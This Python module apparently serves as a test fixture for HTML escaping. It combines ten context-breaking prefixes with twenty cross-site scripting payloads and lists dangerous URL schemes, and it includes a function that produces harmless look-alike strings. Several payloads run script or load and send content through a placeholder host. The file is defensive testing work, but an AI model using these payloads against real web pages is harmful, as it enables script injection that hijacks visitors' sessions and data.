"""Two hundred things that somebody would type to have a page run what they wrote: ways out × what to run.

`twin` is the same text made harmless: of the same length, lines and words, but without what HTML gives a meaning to.
"""

from itertools import product

# Out of wherever the text stands: an element's text, an attribute or its value, text that only its own end
# tag ends, a comment, a data section; or no way out at all, since the text is itself an address or is read twice.
WAYS_OUT = ("", '">', "'>", '" ', "</title>", "</textarea>", "</script>", "</style>", "--><!--", "]]>")
# What would run, load, send or move something, each by another element or attribute.
RUN = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//e.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>",
    "<math><mtext><style><img src onerror=1>",
    "<iframe srcdoc=&lt;script&gt;1>",
    "<object data=javascript:alert(1)>",
    "<a href=&#106;avascript:alert(1)>go</a>",
    "<form action=//e.example><button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content=0;//e>",
    "<base href=//e.example>",
    "<link rel=stylesheet href=//e.example>",
    "<style>@import'//e.example';</style>",
    "<template><plaintext><xmp>",
    "onmouseover=alert(1) style=x:y a='\"",
    "{{7*7}}{%now%}${7*7}<%=1%>&lt;b&gt;",
    "\N{FULLWIDTH LESS-THAN SIGN}b\N{FULLWIDTH GREATER-THAN SIGN}+ADw-b+AD4-\\x3cb<!--",
)
STRINGS = tuple(way + run for way, run in product(WAYS_OUT, RUN))
# Addresses that would do something when followed; only addresses of the web may ever become links.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt://e.example/%0aalert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//e.example/",
)

_HARMLESS = str.maketrans({"<": "(", ">": ")", '"': "*", "'": "*", "&": "*"})


def twin(text: str) -> str:
    """Return `text` with another sign for each that HTML gives a meaning to."""
    return text.translate(_HARMLESS)


def some(key: str, most: int) -> str:
    """Return as many of the strings as go into `most` characters, other ones for another `key`, on one line."""
    at = sum(map(ord, key)) * 7 % len(STRINGS)
    found, rest = "", list(STRINGS[at:] + STRINGS[:at])
    while rest and len(found) + 1 + len(rest[0]) <= most:
        found = f"{found} {rest.pop(0)}".strip()
    return found
